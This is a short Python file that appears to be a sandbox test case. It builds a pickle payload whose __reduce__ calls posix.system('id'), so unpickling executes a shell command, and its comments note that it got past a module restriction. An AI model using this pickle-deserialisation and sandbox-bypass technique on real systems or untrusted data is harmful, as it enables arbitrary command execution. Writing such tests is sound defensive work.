# Unpickles a call of system().
# checked: invalid_code
# bypassed: runtime_error ModuleNotFoundError
import pickle
class Bomb:
    def __reduce__(self):
        import posix
        return posix.system, ('id',)
pickle.loads(pickle.dumps(Bomb()))
